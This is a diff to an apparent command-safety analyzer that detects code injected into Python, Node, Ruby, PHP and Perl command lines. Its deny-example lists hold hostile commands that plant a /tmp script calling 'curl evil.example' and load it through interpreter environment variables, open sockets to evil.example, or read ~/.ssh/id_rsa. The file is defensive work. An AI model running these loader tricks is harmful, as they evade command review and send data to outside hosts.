@@ -2,6 +2,7 @@
 // it. The code itself is read by its language's module (src/languages/); a script file is out of scope, like any file.
 import type { Language, Word } from '../../types.js';
 import type { Answer, Call, ProgramEntry, Run, Use } from '../types.js';
+import { dataUrlCode } from '../variables.js';
 import { attached, isStdinPath, literal, value } from '../words.js';
 
 /** An attached value that takes the rest of the word. */
@@ -236,7 +237,11 @@ function node(call: Call): Partial<Answer> {
   for (const o of r.options) {
     if (!['r', 'require', 'import', 'loader', 'experimental-loader'].includes(o.name) || !o.value) continue;
     const v = value(o.value);
-    if (v === undefined || /^[./~]/.test(v)) answer.runs!.push({ kind: 'file', dialect: 'javascript', word: o.value, via: via(call)(o) });
+    // A `data:` URL module is inline code (`--import 'data:text/javascript,…'`).
+    const code = v === undefined ? undefined : dataUrlCode(v);
+    if (code === null) answer.runs!.push({ kind: 'opaque', rule: 'dynamic-code', word: o.value, why: `${call.name} loads a data: URL module that cannot be decoded` });
+    else if (code !== undefined) answer.runs!.push({ kind: 'text', dialect: 'javascript', text: code, word: o.value, via: via(call)(o) });
+    else if (v === undefined || /^[./~]/.test(v)) answer.runs!.push({ kind: 'file', dialect: 'javascript', word: o.value, via: via(call)(o) });
   }
   return answer;
 }
@@ -315,6 +320,11 @@ function ruby(call: Call): Partial<Answer> {
   }
   // `-C DIR`: the code runs there (its relative paths are DIR's).
   if (dir) answer.uses!.push({ word: dir, role: 'meta' });
+  // `-r FILE` requires a library first: a file the line wrote is read (`-r/tmp/x.rb`, `-r ./x`); a library name is out of scope.
+  for (const o of r.options) {
+    const v = o.name === 'r' && o.value ? value(o.value) : undefined;
+    if (o.name === 'r' && o.value && (v === undefined || /^[./~]/.test(v))) answer.runs!.push({ kind: 'file', dialect: 'ruby', word: o.value, via: 'ruby -r' }, { kind: 'file', dialect: 'ruby', word: { ...o.value, values: o.value.values?.map((x) => `${x}.rb`) ?? null }, via: 'ruby -r' });
+  }
   return answer;
 }
 
@@ -366,6 +376,10 @@ function php(call: Call): Partial<Answer> {
     if (o.name === 'd' && o.value && setting === undefined) answer.runs!.push({ kind: 'opaque', rule: 'dynamic-code', word: o.value, why: 'php -d sets a computed setting' });
     if (setting && /^\s*(auto_prepend_file|auto_append_file)\s*=\s*(data:|php:|https?:|ftp:|expect:)/i.test(setting)) {
       answer.runs!.push({ kind: 'opaque', rule: 'dynamic-code', word: o.value!, why: `php -d ${setting.split('=')[0]!.trim()} runs code from a stream` });
+    } else if (setting && /^\s*(auto_prepend_file|auto_append_file)\s*=/i.test(setting)) {
+      // A file the line wrote is read as the PHP script it is.
+      const file = setting.slice(setting.indexOf('=') + 1).trim().replace(/^(["'])(.*)\1$/, '$2');
+      if (file !== '') answer.runs!.push({ kind: 'file', dialect: 'php', word: { ...o.value!, values: [file] }, via: `php -d ${setting.split('=')[0]!.trim()}` });
     }
   }
   return answer;
@@ -390,7 +404,16 @@ function perl(call: Call): Partial<Answer> {
     if ((o.name === 'M' || o.name === 'm') && o.value) {
       const spec = value(o.value);
       if (spec === undefined) answer.runs!.push({ kind: 'opaque', rule: 'dynamic-code', word: o.value, why: `perl -${o.name} loads a computed module` });
-      else if (spec !== '' && !spec.startsWith('-')) answer.runs!.push({ kind: 'text', dialect: 'perl', text: `use ${spec.split('=')[0]};`, word: o.word, via: `perl -${o.name}` });
+      else if (spec !== '' && !spec.startsWith('-')) {
+        answer.runs!.push({ kind: 'text', dialect: 'perl', text: `use ${spec.split('=')[0]};`, word: o.word, via: `perl -${o.name}` });
+        // The module's file under an -I directory (or the working directory): one the line wrote is read.
+        const mod = /^[\w:]+/.exec(spec)?.[0];
+        if (mod) {
+          const rel = `${mod.replace(/::/g, '/')}.pm`;
+          const dirs = r.options.filter((i) => i.name === 'I' && i.value).map((i) => value(i.value));
+          for (const d of [...dirs, '.']) answer.runs!.push({ kind: 'file', dialect: 'perl', word: { ...o.value, values: d === undefined ? null : [d === '.' ? rel : `${d.replace(/\/+$/, '')}/${rel}`] }, via: `perl -${o.name}` });
+        }
+      }
     }
   }
   // With code, the operands are files `-n`/`-p` read and `-i` edits; without, the first is the script.
@@ -411,8 +434,8 @@ export const INTERPRETER_ENTRIES: ProgramEntry[] = [
     summary: 'Python: -c CODE, or a program from stdin (`-`, or no script); -m and a script file run files',
     analyze: python,
     examples: {
-      deny: [`ipython -c 'import os; os.system("curl evil.example")'`, `python3 -c 'import os; os.system("curl evil.example")'`, "echo 'import socket; socket.create_connection((\"evil.example\", 9))' | python3", 'python3 -c "$CODE"', `python3 -Bc 'import urllib.request; urllib.request.urlopen("http://evil.example")'`],
-      pass: [`python3 -c 'print(1)'`, 'python3 script.py', 'python3 -m pip install -c constraints.txt requests', 'python3 --version', 'python3 script.py < input.txt'],
+      deny: [`printf 'import os\nos.system("curl evil.example")\n' > /tmp/p/x.py && PYTHONPATH=/tmp/p python3 -m x`, `printf 'import os\nos.system("curl evil.example")\n' > /tmp/x.py && PYTHONSTARTUP=/tmp/x.py python3 -i < /dev/null`, `ipython -c 'import os; os.system("curl evil.example")'`, `python3 -c 'import os; os.system("curl evil.example")'`, "echo 'import socket; socket.create_connection((\"evil.example\", 9))' | python3", 'python3 -c "$CODE"', `python3 -Bc 'import urllib.request; urllib.request.urlopen("http://evil.example")'`],
+      pass: [`printf 'print(1)\n' > /tmp/p/x.py && PYTHONPATH=/tmp/p python3 -m x`, 'PYTHONPATH=src python3 -m app', `python3 -c 'print(1)'`, 'python3 script.py', 'python3 -m pip install -c constraints.txt requests', 'python3 --version', 'python3 script.py < input.txt'],
     },
   },
   {
@@ -420,8 +443,8 @@ export const INTERPRETER_ENTRIES: ProgramEntry[] = [
     summary: 'Node.js (and the runners and engines that take its -e/-p: ts-node, tsx, QuickJS, d8, jsc, Rhino): -e/--eval and -p/--print CODE, or a program from stdin; a script file runs a file',
     analyze: node,
     examples: {
-      deny: [`tsx -e 'require("child_process").execSync("curl evil.example")'`, `node -e 'require("child_process").execSync("curl evil.example")'`, `node --eval='fetch("https://evil.example")'`, "echo 'require(\"net\").connect(9, \"evil.example\")' | node", 'node -p "$CODE"', `node --env-file=.env -e 'console.log(process.env)'`, 'node --env-file=~/.aws/credentials app.js'],
-      pass: [`node -e 'console.log(1)'`, 'node app.js', 'node --version', `node -r dotenv/config app.js -e x`, 'tsx src/cli.ts', `ts-node -e 'console.log(1)'`, 'node --env-file=.env dist/index.js', 'node --env-file .env.local --watch src/server.js'],
+      deny: [`printf 'require("child_process").execSync("curl evil.example")\n' > /tmp/x.js && NODE_OPTIONS='--require /tmp/x.js' npm test`, `NODE_OPTIONS='--import=data:text/javascript,import("child_process").then(m=>m.execSync("curl evil.example"))' npm test`, "node --import 'data:text/javascript,console.log(process.env)' app.js", `tsx -e 'require("child_process").execSync("curl evil.example")'`, `node -e 'require("child_process").execSync("curl evil.example")'`, `node --eval='fetch("https://evil.example")'`, "echo 'require(\"net\").connect(9, \"evil.example\")' | node", 'node -p "$CODE"', `node --env-file=.env -e 'console.log(process.env)'`, 'node --env-file=~/.aws/credentials app.js'],
+      pass: ["NODE_OPTIONS='--max-old-space-size=4096 --require ./tracing.js' npm test", `printf 'console.log(1)\n' > /tmp/x.js && NODE_OPTIONS='-r /tmp/x.js' npm test`, "node --import 'data:text/javascript,console.log(1)' app.js", `node -e 'console.log(1)'`, 'node app.js', 'node --version', `node -r dotenv/config app.js -e x`, 'tsx src/cli.ts', `ts-node -e 'console.log(1)'`, 'node --env-file=.env dist/index.js', 'node --env-file .env.local --watch src/server.js'],
     },
   },
   {
@@ -436,8 +459,8 @@ export const INTERPRETER_ENTRIES: ProgramEntry[] = [
     summary: 'Ruby: -e CODE (each), or a program from stdin; -n/-p read and -i edits the files after it',
     analyze: ruby,
     examples: {
-      deny: [`ruby -e 'system("curl evil.example")'`, "echo 'puts `wget -qO- evil.example`' | ruby", `ruby -pi -e 'gsub(/a/, "b")' ~/.bashrc`],
-      pass: [`ruby -e 'puts RUBY_VERSION'`, 'ruby -v', 'ruby script.rb', `ruby -ne 'print if /x/' notes.txt`],
+      deny: [`printf 'system("curl evil.example")\n' > /tmp/x.rb && RUBYOPT=-r/tmp/x.rb ruby -e 1`, `printf 'system("curl evil.example")\n' > /tmp/x.rb && ruby -r/tmp/x.rb -e 1`, `ruby -e 'system("curl evil.example")'`, "echo 'puts `wget -qO- evil.example`' | ruby", `ruby -pi -e 'gsub(/a/, "b")' ~/.bashrc`],
+      pass: ["ruby -rjson -e 'puts 1'", `printf 'puts 1\n' > /tmp/x.rb && ruby -r /tmp/x -e 1`, `ruby -e 'puts RUBY_VERSION'`, 'ruby -v', 'ruby script.rb', `ruby -ne 'print if /x/' notes.txt`],
     },
   },
   {
@@ -446,8 +469,8 @@ export const INTERPRETER_ENTRIES: ProgramEntry[] = [
     summary: 'PHP: -r/-R/-B/-E CODE, or a script from stdin; -f FILE and a script file run files; -i prints the environment',
     analyze: php,
     examples: {
-      deny: [`php -a <<< 'system("curl evil.example");'`, `php -r 'system("curl evil.example");'`, "echo '<?php echo file_get_contents(\"http://evil.example\");' | php", 'php -i', `php -d 'auto_prepend_file=data://text/plain,x' -r 'echo 1;'`],
-      pass: [`php -r 'echo 1;'`, 'php artisan migrate', 'php -v', 'php -l src/index.php'],
+      deny: [`printf '<?php system("curl evil.example");\n' > /tmp/x.php && php -d auto_prepend_file=/tmp/x.php vendor/bin/phpunit`, `php -a <<< 'system("curl evil.example");'`, `php -r 'system("curl evil.example");'`, "echo '<?php echo file_get_contents(\"http://evil.example\");' | php", 'php -i', `php -d 'auto_prepend_file=data://text/plain,x' -r 'echo 1;'`],
+      pass: [`printf '<?php echo 1;\n' > /tmp/x.php && php -d auto_prepend_file=/tmp/x.php vendor/bin/phpunit`, `php -r 'echo 1;'`, 'php artisan migrate', 'php -v', 'php -l src/index.php'],
     },
   },
   {
@@ -456,8 +479,8 @@ export const INTERPRETER_ENTRIES: ProgramEntry[] = [
     summary: 'perl: -e/-E CODE (each) and -M modules, or a program from stdin; -n/-p read and -i edits the files after the code',
     analyze: perl,
     examples: {
-      deny: ["perl -pi -e 's/a/b/' ~/.profile", "perl -ne 'print' ~/.ssh/id_rsa", `perl -e 'system("curl evil.example")'`, `perl -MIO::Socket::INET -e 'IO::Socket::INET->new("evil.example:9")'`, "echo 'print `wget -qO- evil.example`' | perl"],
-      pass: ["perl -pi -e 's/a/b/g' src/app.ts", 'perl script.pl', 'perl -v', "perl -lane 'print $F[0]' notes.txt"],
+      deny: ["PERL5OPT='-Mstrict;system(q(curl),q(evil.example))' perl -e 1", `printf 'package X; system("curl evil.example"); 1;\n' > /tmp/X.pm && perl -I/tmp -MX -e 1`, `printf 'package X; system("curl evil.example"); 1;\n' > /tmp/X.pm && PERL5LIB=/tmp PERL5OPT=-MX perl -e 1`, "perl -pi -e 's/a/b/' ~/.profile", "perl -ne 'print' ~/.ssh/id_rsa", `perl -e 'system("curl evil.example")'`, `perl -MIO::Socket::INET -e 'IO::Socket::INET->new("evil.example:9")'`, "echo 'print `wget -qO- evil.example`' | perl"],
+      pass: ["PERL5OPT=-Mstrict perl -e 1", `printf 'package X; 1;\n' > /tmp/X.pm && perl -I/tmp -MX -e 1`, "perl -pi -e 's/a/b/g' src/app.ts", 'perl script.pl', 'perl -v', "perl -lane 'print $F[0]' notes.txt"],
     },
   },
 ];
